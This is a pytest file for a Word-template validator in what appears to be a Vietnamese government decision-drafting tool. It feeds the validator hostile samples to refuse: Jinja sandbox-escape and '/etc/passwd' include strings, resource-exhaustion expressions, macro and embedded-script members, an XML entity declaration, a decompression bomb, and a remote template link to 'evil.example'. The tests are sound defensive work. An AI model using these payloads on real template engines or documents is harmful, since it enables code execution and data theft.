"""Templates are tried before they are kept, and may hold nothing but fields."""

import io
import zipfile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from registrations.drafting import content, defaults, fields, rendering


def docx(*paragraphs) -> bytes:
    """A Word file with these paragraphs."""
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_member(data: bytes, name: str, body: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, body)
    return out.getvalue()


def words_of(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def refused(data: bytes) -> str:
    with pytest.raises(rendering.BadTemplate) as error:
        rendering.check(data)
    return " ".join(error.value.sentences)


@pytest.mark.parametrize("data", [defaults.decision_text(), defaults.annex(), defaults.annex(places=True)])
def test_the_built_in_templates_pass_the_check_of_templates(data):
    assert "so_ky_hieu" in rendering.check(data)


def test_the_built_in_text_has_every_part_that_decree_30_asks_for():
    said = words_of(rendering.fill(defaults.decision_text(), fields.sample()))

    for part in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "ỦY BAN NHÂN DÂN TỈNH LẠNG SƠN",
        "Số: 1204/QĐ-UBND",
        "Lạng Sơn, ngày 20 tháng 11 năm 2026",
        "QUYẾT ĐỊNH",
        "Điều 1.",
        "Điều 2.",
        "Điều 3.",
        "Nơi nhận:",
        "Lưu: VT.",
        "CHỦ TỊCH",
    ):
        assert part in said
    assert "{" not in said


def test_the_page_is_a4_with_the_margins_of_the_decree():
    section = Document(io.BytesIO(defaults.decision_text())).sections[0]

    size = (section.page_width.mm, section.page_height.mm)
    margins = (section.top_margin.mm, section.bottom_margin.mm, section.left_margin.mm, section.right_margin.mm)
    assert [round(value) for value in (*size, *margins)] == [210, 297, 20, 20, 30, 20]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("{{ so_ki_hieu }}", "Không có trường “so_ki_hieu”. Có phải “so_ky_hieu”?"),
        ("{% for d in cac_dong %}{{ d.ho_ten }}{% endfor %}", "Không có trường “ho_ten”"),
        ("{{ dong.ten }}", "Không có trường “dong”"),
        ("{{ ''.__class__.__mro__ }}", "không có ở chỗ này"),
        ("{{ so_ky_hieu.__class__ }}", "không có ở chỗ này"),
        ("{{ cac_dong.append(1) }}", "Call"),
        ("{% for i in range(1000000000) %}x{% endfor %}", "cần một trường có nhiều dòng"),
        ("{% for a in cac_dong %}{% for b in cac_dong %}x{% endfor %}{% endfor %}", "nằm trong vòng lặp khác"),
        ("{{ 'a' * 1000000000 }}", "Mul"),
        ("{{ 9 ** 9 ** 9 }}", "Pow"),
        ("{% set x = 1 %}", "Assign"),
        ("{% include '/etc/passwd' %}", "Include"),
        ("{% import 'os' as os %}", "Import"),
        ("{% macro m() %}x{% endmacro %}", "Macro"),
        ("{{ so_ky_hieu | attr('__class__') }}", "Bộ lọc “attr”"),
        ("{{ cac_dong | map(attribute='ten') | list }}", "Bộ lọc"),
        ("{{ co_quan | center(100000000) }}", "Bộ lọc “center”"),
        ("{% for d in cac_dong %}{{ d.ten }}", "Chưa đọc được một lệnh"),
        ("{{ so_ky_hieu", "Chưa đọc được một lệnh"),
    ],
)  # fmt: skip
def test_what_a_template_may_not_hold_is_refused_in_words(words, said):
    assert said in refused(docx(words))


def test_a_hostile_heading_is_found_as_well_as_a_hostile_body():
    document = Document()
    document.add_paragraph("{{ so_ky_hieu }}")
    document.sections[0].header.paragraphs[0].text = "{{ cycler.__init__.__globals__ }}"
    out = io.BytesIO()
    document.save(out)

    assert "cycler" in refused(out.getvalue())


@pytest.mark.parametrize(
    ("name", "body", "said"),
    [
        ("word/vbaProject.bin", b"x", "macro"),
        ("word/embeddings/oleObject1.bin", b"x", "đối tượng nhúng"),
        ("word/afchunk1.html", b"<script>", "đối tượng nhúng"),
        ("word/more.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>', "khai báo"),
        ("word/_rels/more.xml.rels", b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
         b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>', "nơi khác"),
        ("word/big.xml", b"0" * 45_000_000, "bung ra quá lớn"),
    ],
)  # fmt: skip
def test_a_package_with_more_than_words_is_refused(name, body, said):
    with_more = io.BytesIO(docx("{{ so_ky_hieu }}"))
    with zipfile.ZipFile(with_more, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, body)

    assert said in refused(with_more.getvalue())


def test_a_damaged_file_is_refused_in_words():
    assert "không điền được" in refused(b"PK\x03\x04 not a document")


@settings(max_examples=12)
@given(name=st.text(min_size=1, max_size=60))
def test_any_name_comes_out_as_it_went_in(name):
    """Whatever stands in a name stays words: markup, braces, commands, control characters."""
    filled = rendering.fill(docx("Tên: {{ co_quan }}."), fields.sample() | {"co_quan": name})

    expected = rendering.clean(name)
    assert words_of(filled).strip().replace("\u200b", "") == f"Tên: {expected}.".replace("\u200b", "")


@pytest.mark.parametrize(
    "name",
    ['Công ty A & B <b> "C"', "{{ 7 * 7 }}", "{% raw %} {% endfor %}", "{_{ x }_}", "a\x00b\x0bc", "=1+1", "👍🏽 Ẵ"],
)
def test_hostile_names_survive_as_words(name):
    filled = words_of(rendering.fill(defaults.annex(), fields.sample() | {"cac_muc": [_section(name)]}))

    assert rendering.clean(name) in filled
    assert "49" not in filled


def _section(name):
    row = {field.name: "" for field in fields.ROW} | {"tt": "1", "ten": name}
    return {"so": "I", "tieu_de": "Bằng khen cho cá nhân", "dong": [row]}


@pytest.mark.parametrize(
    ("kinds", "said"),
    [
        (["ca-nhan"], "01 cá nhân"),
        (["ca-nhan"] * 12 + ["tap-the"] * 2, "02 tập thể và 12 cá nhân"),
        (["ho-gia-dinh", "ca-nhan", "tap-the"], "01 tập thể, 01 cá nhân và 01 hộ gia đình"),
        (["ca-nhan"] * 1200, "1.200 cá nhân"),
    ],
)
def test_recipients_are_counted_as_decisions_count_them(kinds, said):
    assert content.counts_text(kinds) == said
